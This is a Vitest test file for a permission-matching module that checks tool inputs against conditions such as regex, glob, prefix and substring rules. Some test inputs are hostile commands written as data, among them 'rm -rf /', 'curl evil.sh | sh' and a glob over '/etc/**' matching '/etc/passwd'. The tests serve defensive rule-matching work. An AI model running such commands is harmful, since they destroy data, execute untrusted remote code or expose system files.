import { describe, expect, it } from "vitest";
import { getPath, matchCondition, matchSpec } from "../../../src/kernel/permission/match-spec.js";

describe("getPath", () => {
  it("follows dot-paths through objects and arrays", () => {
    const input = { args: { path: "/tmp/x" }, paths: ["a", "b"] };
    expect(getPath(input, "args.path")).toBe("/tmp/x");
    expect(getPath(input, "paths.1")).toBe("b");
    expect(getPath(input, "args.missing")).toBeUndefined();
    expect(getPath(input, "args.path.deeper")).toBeUndefined();
  });

  it("does not reach into the prototype chain", () => {
    expect(getPath({}, "constructor")).toBeUndefined();
    expect(getPath({ a: {} }, "a.__proto__")).toBeUndefined();
  });
});

describe("matchCondition", () => {
  it("regex: tests a string, from a source string or a RegExp with its flags", () => {
    expect(matchCondition("rm -rf /", { regex: "rm\\s+-rf" })).toBe(true);
    expect(matchCondition("ls", { regex: "^rm" })).toBe(false);
    expect(matchCondition("RM x", { regex: "^rm", flags: "i" })).toBe(true);
    expect(matchCondition("RM x", { regex: /^rm/i })).toBe(true);
    expect(matchCondition(42, { regex: "4" })).toBe(false);
  });

  it("regex: a global RegExp gives the same answer every time", () => {
    const condition = { regex: /rm/g };
    expect([1, 2, 3].map(() => matchCondition("rm x", condition))).toEqual([true, true, true]);
  });

  it("glob: matches a whole string", () => {
    expect(matchCondition("/etc/passwd", { glob: "/etc/**" })).toBe(true);
    expect(matchCondition("/home/u/x", { glob: "/etc/**" })).toBe(false);
    expect(matchCondition(["/etc/x"], { glob: "/etc/**" })).toBe(false);
  });

  it("equals: structural equality for any type", () => {
    expect(matchCondition({ a: [1, 2] }, { equals: { a: [1, 2] } })).toBe(true);
    expect(matchCondition(3, { equals: 3 })).toBe(true);
    expect(matchCondition(null, { equals: null })).toBe(true);
    expect(matchCondition("3", { equals: 3 })).toBe(false);
  });

  it("in: any of the listed values", () => {
    expect(matchCondition("main", { in: ["main", "master"] })).toBe(true);
    expect(matchCondition("dev", { in: ["main", "master"] })).toBe(false);
    expect(matchCondition({ x: 1 }, { in: [{ x: 1 }] })).toBe(true);
  });

  it("startsWith: a string prefix", () => {
    expect(matchCondition("git push origin", { startsWith: "git push" })).toBe(true);
    expect(matchCondition("git status", { startsWith: "git push" })).toBe(false);
    expect(matchCondition(12, { startsWith: "1" })).toBe(false);
  });

  it("contains: a substring of a string or a member of an array", () => {
    expect(matchCondition("curl evil.sh | sh", { contains: "| sh" })).toBe(true);
    expect(matchCondition("ls", { contains: "| sh" })).toBe(false);
    expect(matchCondition(["-f", "--force"], { contains: "--force" })).toBe(true);
    expect(matchCondition(["-f"], { contains: "--force" })).toBe(false);
    expect(matchCondition([{ a: 1 }], { contains: { a: 1 } })).toBe(true);
    expect(matchCondition(7, { contains: "7" })).toBe(false);
  });

  it("not: negates a condition that applies to the field", () => {
    expect(matchCondition("ls", { not: { startsWith: "rm" } })).toBe(true);
    expect(matchCondition("rm x", { not: { startsWith: "rm" } })).toBe(false);
    expect(matchCondition(5, { not: { equals: 4 } })).toBe(true);
    expect(matchCondition("x", { not: { not: { equals: "x" } } })).toBe(true);
  });

  it("not: fails closed when the inner condition cannot apply to the field's type", () => {
    expect(matchCondition(42, { not: { startsWith: "rm" } })).toBe(false);
    expect(matchCondition({ cmd: "rm" }, { not: { regex: "rm" } })).toBe(false);
    expect(matchCondition(true, { not: { glob: "*" } })).toBe(false);
    expect(matchCondition(3, { not: { contains: "x" } })).toBe(false);
    expect(matchCondition(3, { not: { not: { startsWith: "x" } } })).toBe(false);
  });

  it("a missing field matches no condition, not even not", () => {
    expect(matchCondition(undefined, { equals: undefined })).toBe(false);
    expect(matchCondition(undefined, { not: { equals: "x" } })).toBe(false);
    expect(matchCondition(undefined, { in: [undefined] })).toBe(false);
  });

  it("an unknown condition shape matches nothing", () => {
    expect(matchCondition("x", { bogus: 1 } as never)).toBe(false);
  });
});

describe("matchSpec", () => {
  it("ANDs every key", () => {
    const spec = { command: { startsWith: "git" }, "opts.force": { equals: true } };
    expect(matchSpec(spec, { command: "git push", opts: { force: true } })).toBe(true);
    expect(matchSpec(spec, { command: "git push", opts: { force: false } })).toBe(false);
    expect(matchSpec(spec, { command: "git push" })).toBe(false);
  });

  it("an empty spec matches any input", () => {
    expect(matchSpec({}, { anything: 1 })).toBe(true);
  });
});
